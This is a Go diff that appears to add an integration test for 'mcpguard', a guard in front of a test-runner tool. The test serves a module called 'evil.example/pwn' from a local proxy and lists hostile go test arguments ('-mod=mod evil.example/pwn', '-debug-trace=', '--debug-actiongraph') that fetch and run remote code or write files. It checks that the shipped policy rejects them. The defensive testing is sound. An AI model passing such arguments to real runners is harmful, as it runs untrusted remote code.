@@ -1,6 +1,8 @@
 package integration
 
 import (
+	"archive/zip"
+	"bytes"
 	"context"
 	"os"
 	"path/filepath"
@@ -292,4 +294,95 @@ func TestEvil(t *testing.T) { os.WriteFile(` + strconv.Quote(p.marker("evil")) +
 	if got := p.markersWritten(t); len(got) != 0 {
 		t.Errorf("attacker code ran behind mcpguard: markers %q", got)
 	}
+}
+
+// TestRunnerPolicyGoTestRemoteAndDebug: with -mod=mod, go test downloads
+// the module of a package named on the command line and runs its tests
+// (here from a file: GOPROXY; from the public proxy in real life), and the
+// undocumented build flag -debug-trace writes a file where the caller
+// says. The direct runs prove both on this go; the guarded ones that the
+// shipped policy refuses them.
+func TestRunnerPolicyGoTestRemoteAndDebug(t *testing.T) {
+	p := newRunnerProject(t)
+	writeFiles(t, p.proj, map[string]string{
+		"go.mod":    "module proj\n\ngo 1.26\n",
+		"a_test.go": "package proj\n\nimport \"testing\"\n\nfunc TestFoo(t *testing.T) {}\n",
+	})
+	proxy := goProxy(t, "evil.example/pwn", "v1.0.0", map[string]string{
+		"go.mod": "module evil.example/pwn\n\ngo 1.20\n",
+		"pwn.go": "package pwn\n",
+		"pwn_test.go": `package pwn
+
+import (
+	"os"
+	"testing"
+)
+
+func TestPwn(t *testing.T) { os.WriteFile(` + strconv.Quote(p.marker("remote")) + `, []byte("ran"), 0o644) }
+`,
+	})
+	env := append(runnerEnv(p), "GOPROXY=file://"+proxy, "GOSUMDB=off", "GOFLAGS=-modcacherw",
+		"GOMODCACHE="+filepath.Join(t.TempDir(), "modcache"))
+	argv := runnerArgv(t, p, "go")
+	attacks := [][]string{
+		{"-mod=mod", "evil.example/pwn"},
+		{"-run", "^TestFoo$", "-debug-trace=" + p.marker("trace")},
+	}
+
+	direct := connect(t, nil, withEnv(argv, env...)...)
+	for _, args := range attacks {
+		runTests(t, direct, args...)
+		if got := p.markersWritten(t); len(got) != 1 {
+			t.Fatalf("direct go test %q wrote markers %q: the hostile arguments are no attack on this go", args, got)
+		}
+		for _, m := range p.markersWritten(t) {
+			os.Remove(p.marker(m))
+		}
+	}
+	writeFiles(t, p.proj, map[string]string{"go.mod": "module proj\n\ngo 1.26\n"}) // -mod=mod added a require
+
+	guarded := connect(t, nil, withEnv(guardArgv(t, &guardOpts{Policy: shippedPolicy("go-test")}, argv...), env...)...)
+	for _, args := range append(attacks, []string{"-mod", "mod", "evil.example/pwn"}, []string{"--debug-actiongraph", p.marker("ag")}) {
+		callRejected(t, guarded, "run_tests", map[string]any{"testArgs": args}, "INPUT_REJECTED_DANGEROUS_FLAG")
+	}
+	mustPass(t, guarded, "ok", "-mod=readonly", "-run", "^TestFoo$")
+	if got := p.markersWritten(t); len(got) != 0 {
+		t.Errorf("attacker code ran or wrote behind mcpguard: markers %q", got)
+	}
+}
+
+// goProxy writes a file: GOPROXY directory serving module at version with
+// the given files, and returns its path.
+func goProxy(t *testing.T, module, version string, files map[string]string) string {
+	t.Helper()
+	dir := t.TempDir()
+	vdir := filepath.Join(dir, filepath.FromSlash(module), "@v")
+	if err := os.MkdirAll(vdir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, text := range files {
+		w, err := zw.Create(module + "@" + version + "/" + name)
+		if err == nil {
+			_, err = w.Write([]byte(text))
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	for name, data := range map[string][]byte{
+		"list":            []byte(version + "\n"),
+		version + ".info": []byte(`{"Version":"` + version + `"}`),
+		version + ".mod":  []byte(files["go.mod"]),
+		version + ".zip":  buf.Bytes(),
+	} {
+		if err := os.WriteFile(filepath.Join(vdir, name), data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
 }
